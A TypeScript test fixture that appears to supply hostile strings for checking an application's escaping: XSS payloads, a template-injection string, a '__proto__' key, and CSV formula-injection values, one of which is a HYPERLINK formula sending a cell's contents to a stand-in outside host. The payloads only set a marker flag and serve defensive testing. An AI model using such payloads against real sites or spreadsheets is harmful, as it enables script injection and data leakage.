/** What a browser must take for text, wherever it stands. */
export const HOSTILE = '<img src=x onerror="window.hostile=1"><script>window.hostile=1</script>';

/** Ends what it stands in, as an attribute, a script, a template or an address does; turns round; counts. */
export const HOSTILE_TEXTS: readonly string[] = [
  HOSTILE,
  '"><svg onload=window.hostile=1>',
  "');window.hostile=1;//",
  'javascript:window.hostile=1',
  '</textarea></script><iframe srcdoc="<script>parent.hostile=1</script>">',
  '{{constructor.constructor("window.hostile=1")()}}',
  '<a href="http://elsewhere.invalid/">&lt;b&gt;</a>',
  '__proto__',
  'null',
  '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
];

/** A file whose columns, lines and refused values are hostile. */
export const hostileFile = (): string =>
  [
    ['kind', 'fund', 'unit', quoted(HOSTILE)].join(','),
    ...HOSTILE_TEXTS.map((text) => [quoted(text), 'employee', quoted(text), quoted(text)].join(',')),
  ].join('\n');

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
